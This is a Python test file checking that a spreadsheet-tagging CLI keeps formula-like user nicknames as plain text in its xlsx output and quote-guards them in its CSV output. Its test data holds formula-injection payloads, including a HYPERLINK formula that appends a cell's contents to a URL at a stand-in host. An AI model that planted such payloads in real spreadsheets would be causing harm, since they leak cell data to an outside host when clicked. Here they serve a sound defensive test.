"""Formula injection: user text that looks like a formula stays text in every output."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import python_calamine

from tests.hostile import sheet_xml

NICKNAMES = ['=HYPERLINK("http://x.invalid/?"&A2,"点")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
             "=1+1", "http://t.cn/abc"]


def inj_csv(tmp_path: Path) -> Path:
    rows = [[str(1001 + i), "2024-05-01", "2024-07-02", nick] for i, nick in enumerate(NICKNAMES)]
    path = tmp_path / "inj_2024-07.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["用户ID", "注册时间", "最近一次活跃时间", "昵称"])
        writer.writerows(rows)
    return path


def test_no_formula_from_user_data_in_any_sheet(run_cli, tmp_path: Path) -> None:
    code, _, err = run_cli("tag", inj_csv(tmp_path), "--no-history", "-o", tmp_path / "out.xlsx")
    assert code == 0, err
    formulas = [f for xml in sheet_xml(tmp_path / "out.xlsx").values()
                for f in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S)]
    assert formulas  # tagger's own formulas are there …
    for text in formulas:  # … but none came from a nickname
        assert "x.invalid" not in text and "SUM(A1)" not in text and text not in ("1+1", "+1+1", "-1+1")
    for xml in sheet_xml(tmp_path / "out.xlsx").values():
        assert "<hyperlink" not in xml
    # Values round-trip exactly through tagger's own reader (xlsxwriter escapes CR as _x000D_).
    sheet = python_calamine.CalamineWorkbook.from_path(str(tmp_path / "out.xlsx")).get_sheet_by_name("用户明细")
    rows = sheet.to_python()
    assert [row[3] for row in rows[1:]] == NICKNAMES
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True)["用户明细"]
    assert {row[3].data_type for row in ws.iter_rows(min_row=2)} == {"s"}


def test_refresh_reads_the_text_back_as_text(run_cli, tmp_path: Path) -> None:
    """The written workbook fed back in as an export: the nicknames are still plain strings."""
    run_cli("tag", inj_csv(tmp_path), "--no-history", "-o", tmp_path / "out.xlsx")
    code, _, err = run_cli("tag", tmp_path / "out.xlsx", "--no-history", "-o", tmp_path / "again.xlsx",
                           "--month", "2024-07")
    assert code == 0, err
    rows = python_calamine.CalamineWorkbook.from_path(str(tmp_path / "again.xlsx")).get_sheet_by_name("用户明细")
    assert [row[3] for row in rows.to_python()[1:]] == NICKNAMES


def test_csv_contact_lists_get_a_quote_guard(run_cli, tmp_path: Path) -> None:
    (tmp_path / "tagger.toml").write_text(
        '[[rules]]\nname = "全部"\nwhen = [{ column = "用户ID", op = "!=", value = "0" }]\nchannel = "push"\n'
        'content = "x"\n', encoding="utf-8")
    code, _, err = run_cli("contacts", inj_csv(tmp_path), "--no-history", "--format", "csv",
                           "--out-dir", tmp_path / "lists")
    assert code == 0, err
    cells = [cell for path in (tmp_path / "lists").glob("*.csv")
             for row in csv.reader(path.open(encoding="utf-8-sig", newline="")) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    for nick in NICKNAMES[:8]:
        assert "'" + nick in cells and nick not in cells, nick
